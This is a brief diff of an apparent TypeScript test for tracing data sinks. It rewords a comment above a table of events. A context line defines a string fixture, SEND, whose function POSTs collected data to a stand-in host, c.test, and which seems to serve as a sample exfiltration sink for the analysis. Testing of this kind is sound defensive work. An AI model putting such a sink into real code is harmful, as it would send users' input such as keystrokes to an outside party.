@@ -3,7 +3,7 @@ import { sinksOf, traceOf } from "../testing/trace-of.ts";
 
 const SEND = 'function send(data) { fetch("https://c.test/", { method: "POST", body: data }); }\n';
 
-/** What an event brings, on which occasion, and which listener is told. */
+/** The data of each event, its trigger, and the listener that receives it. */
 const EVENTS = [
 	[
 		"a key",
